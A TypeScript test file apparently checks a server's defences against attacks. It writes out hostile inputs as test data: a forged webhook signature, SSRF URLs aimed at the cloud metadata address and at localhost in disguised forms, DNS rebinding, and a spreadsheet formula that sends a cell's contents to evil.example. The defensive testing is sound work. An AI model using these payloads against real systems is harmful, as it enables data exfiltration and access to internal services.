import { createHmac } from 'node:crypto'
import { request } from 'node:http'
import { expect, onTestFinished, test } from 'vitest'
import { readNetworks } from '../../server/sources/address-rules.ts'
import { addressGuard } from '../../server/sources/guarded-fetch.ts'
import { createContext } from '../../server/usecases/create-context.ts'
import { setUpSource } from '../../server/usecases/set-up-source.ts'
import { serveHere } from '../support/serve-here.ts'
import { smallCompany } from '../support/temporary-installation.ts'

/** What somebody tries who has read the source; each is refused, and stands in the security log. */
async function target() {
  const { store, now } = await smallCompany()
  const told: string[] = []
  const none = readNetworks('')
  if ('wrong' in none) throw new Error('no network is one')
  const context = createContext({ store, now, networks: none, security: (event) => void told.push(event) })
  const server = await serveHere(context, { requestsPerMinute: 50 })
  onTestFinished(() => server.close())
  const send = (path: string, body: unknown, headers: Record<string, string> = {}, method = 'POST') =>
    fetch(`${server.address}/api/v1${path}`, {
      method,
      body: JSON.stringify(body),
      headers: { 'content-type': 'application/json', ...headers },
    })
  return { context, server, told, send }
}

test('forges a webhook', async () => {
  const { context, told, send } = await target()
  const repositories = ['acme/shop']
  const secret = 'a-secret-of-some-length'
  await setUpSource(context, { id: 'issues', type: 'github', config: { repositories, webhook: { secret } } })
  const body = { action: 'opened', issue: { id: 1, updated_at: '2026-01-01T08:00:00Z' } }
  const signature = `sha256=${createHmac('sha256', '').update(JSON.stringify(body)).digest('hex')}`
  const headers = { 'x-github-delivery': '1', 'x-hub-signature-256': signature }
  expect((await send('/webhooks/github/issues', body, headers)).status).toBe(403)
  expect(told).toEqual(['webhook-refused'])
  expect(await context.store.webhooks.last()).toEqual(new Map())
})

test.each([
  ['a metadata address', 'http://169.254.169.254/latest/'],
  ['one in disguise', 'http://[::ffff:a9fe:a9fe]/'],
  ['this machine', 'http://2130706433:5432/'],
])('has a source read %s', async (_, url) => {
  const { told, send } = await target()
  for (const setup of [
    { id: 'page', type: 'statuspage', config: { url } },
    { id: 'issues', type: 'github', config: { baseUrl: url, repositories: ['acme/shop'] } },
    { id: 'telemetry', type: 'prometheus', config: { url, discover: 'pyrra' } },
  ]) {
    const trial = (await (await send('/source-trials', setup)).json()) as { problem: unknown; rows: unknown[] }
    expect({ setup, isRefused: trial.problem !== null, rows: trial.rows }).toEqual({ setup, isRefused: true, rows: [] })
  }
  expect(new Set(told)).toEqual(new Set(['address-refused']))
})

test('has a name lead somewhere else once it was looked at', async () => {
  const told: string[] = []
  const none = readNetworks('')
  if ('wrong' in none) throw new Error('no network is one')
  let asked = 0
  const { fetch } = addressGuard({
    networks: none,
    onRefused: (_host, problem) => void told.push(problem),
    lookup: async () => [{ address: ++asked === 1 ? '203.0.113.7' : '169.254.169.254', family: 4 }],
  })
  await expect(fetch('http://rebind.example/')).rejects.toThrow('fetch failed')
  expect([asked, told]).toEqual([2, ['169.254.169.254 is kept for cloud metadata and is never called']])
})

test("has a visitor's browser call it under another name", async () => {
  const { server, told } = await target()
  const status = await new Promise((resolve) => {
    const headers = { host: 'rebind.example', origin: 'http://rebind.example' }
    request({ host: '127.0.0.1', port: server.port, path: '/api/v1/status', headers }, (response) => {
      response.resume()
      resolve(response.statusCode)
    }).end()
  })
  expect([status, told]).toEqual([403, ['foreign-request']])
})

test('plants a formula', async () => {
  const { server, send } = await target()
  const changes = { title: '=HYPERLINK("http://evil.example?"&A1)', capacity: 1 }
  expect((await send('/settings/teams/core', { revision: 0, changes }, {}, 'PUT')).status).toBe(200)
  const csv = await (await fetch(`${server.address}/api/v1/settings?table=teams&format=csv`)).text()
  expect(csv).toContain(`"'=HYPERLINK(`)
  expect(csv).not.toMatch(/(^|[,"])=/m)
})

test('sends too much at once, and too often', async () => {
  const { told, send } = await target()
  expect((await send('/settings/preview', { text: 'x'.repeat(1_100_000) })).status).toBe(413)
  const flood = await Promise.all(Array.from({ length: 60 }, () => send('/none', {})))
  expect(flood.filter(({ status }) => status === 429)).toHaveLength(11)
  expect(told).toEqual(['body-too-large', 'rate-limited'])
})
